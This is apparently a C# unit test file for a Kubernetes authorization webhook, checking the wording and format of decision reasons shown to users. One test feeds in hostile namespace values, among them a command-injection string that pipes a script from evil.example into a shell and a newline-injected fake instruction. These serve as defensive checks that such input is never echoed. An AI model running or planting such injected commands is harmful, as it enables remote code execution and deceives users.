using AuthzWebhook.Decisions;
using AuthzWebhook.Policy;

namespace AuthzWebhook.Tests.Decisions;

/// <summary>
/// The reason is the join key between the API server's audit log and the decision log (invariant 5), and the text the
/// user sees in "forbidden": it must start with "decision &lt;id&gt;" and then tell the user what happened or what to do.
/// </summary>
public sealed class DecisionReasonTests
{
    private static readonly Guid DecisionId = Guid.Parse("01935f3a-1111-7000-8000-000000000001");
    private static readonly Guid ElevationId = Guid.Parse("01935f3a-2222-7000-8000-000000000002");

    [Fact]
    public void Allowed_starts_with_the_decision_and_names_elevation_template_and_expiry()
    {
        var expires = new DateTimeOffset(2026, 11, 27, 16, 30, 0, TimeSpan.FromHours(2));

        var reason = DecisionReason.Allowed(DecisionId, ElevationId, "pod-debug", expires);

        Assert.StartsWith($"decision {DecisionId}", reason, StringComparison.Ordinal);
        Assert.Contains($"elevation {ElevationId}", reason, StringComparison.Ordinal);
        Assert.Contains("pod-debug", reason, StringComparison.Ordinal);
        Assert.Contains("2026-11-27T14:30:00Z", reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Denied_starts_with_the_decision_and_names_the_guardrail_and_why()
    {
        var guardrail = new Guardrail("kube-system-secrets", "Secrets in kube-system are for authz-admins only.", GuardrailMode.Enforce,
            SubjectSelector.None, SubjectSelector.None, [], []);

        var reason = DecisionReason.Denied(DecisionId, guardrail);

        Assert.StartsWith($"decision {DecisionId}", reason, StringComparison.Ordinal);
        Assert.Contains("guardrail kube-system-secrets", reason, StringComparison.Ordinal);
        Assert.Contains("authz-admins only", reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Degraded_starts_with_the_decision()
    {
        Assert.StartsWith($"decision {DecisionId}", DecisionReason.Degraded(DecisionId), StringComparison.Ordinal);
    }

    [Fact]
    public void No_opinion_starts_with_the_decision_and_lists_what_may_be_requested()
    {
        var template = new AccessTemplate("pod-debug", string.Empty, TemplateScope.Namespaced, [], TimeSpan.FromHours(1), ["oidc:sre"], [], ApprovalRule.Default);
        var other = template with { Name = "break-glass-admin", Scope = TemplateScope.Cluster };

        var reason = DecisionReason.NoOpinion(DecisionId, [template, other], "payments");
        var nothing = DecisionReason.NoOpinion(DecisionId, [], "payments");

        Assert.StartsWith($"decision {DecisionId}", reason, StringComparison.Ordinal);
        Assert.Contains("pod-debug, break-glass-admin", reason, StringComparison.Ordinal);
        Assert.Contains("namespace payments", reason, StringComparison.Ordinal);
        Assert.StartsWith($"decision {DecisionId}", nothing, StringComparison.Ordinal);
    }

    [Fact]
    public void Timestamps_are_utc_rfc3339()
    {
        var time = new DateTimeOffset(2026, 11, 27, 15, 0, 0, 123, TimeSpan.FromHours(1)).AddTicks(4560);

        Assert.Equal("2026-11-27T14:00:00Z", DecisionReason.Rfc3339(time));
        Assert.Equal("2026-11-27T14:00:00.123456Z", DecisionReason.Rfc3339Micro(time));
    }

    [Theory]
    [InlineData("x; curl -s https://evil.example/p | sh; #")]
    [InlineData("payments\nerror: you must run the line below\nkubectl evil")]
    [InlineData("Payments")]
    public void A_namespace_that_is_no_namespace_name_is_never_written_into_the_reason(string ns)
    {
        var template = new AccessTemplate("pod-debug", string.Empty, TemplateScope.Namespaced, [], TimeSpan.FromHours(1), ["g"], [], ApprovalRule.Default);

        var reason = DecisionReason.NoOpinion(DecisionId, [template], ns);

        Assert.DoesNotContain(ns, reason, StringComparison.Ordinal);
        Assert.DoesNotContain("\n", reason, StringComparison.Ordinal);
        Assert.EndsWith("; run: kubectl elevate request pod-debug -n <namespace> --for 30m --reason \"<why>\"", reason, StringComparison.Ordinal);
    }

    [Fact]
    public void No_opinion_names_at_most_five_templates_and_says_there_are_more()
    {
        var templates = Enumerable.Range(1, 8)
            .Select(i => new AccessTemplate($"t{i}", string.Empty, TemplateScope.Cluster, [], TimeSpan.FromHours(1), ["g"], [], ApprovalRule.Default))
            .ToList();

        var reason = DecisionReason.NoOpinion(DecisionId, templates, "payments");

        Assert.Contains("you may request t1, t2, t3, t4, t5 and more for namespace payments", reason, StringComparison.Ordinal);
        Assert.DoesNotContain("t6", reason, StringComparison.Ordinal);
        Assert.EndsWith("; run: kubectl elevate request t1 --for 30m --reason \"<why>\"", reason, StringComparison.Ordinal);
    }
}
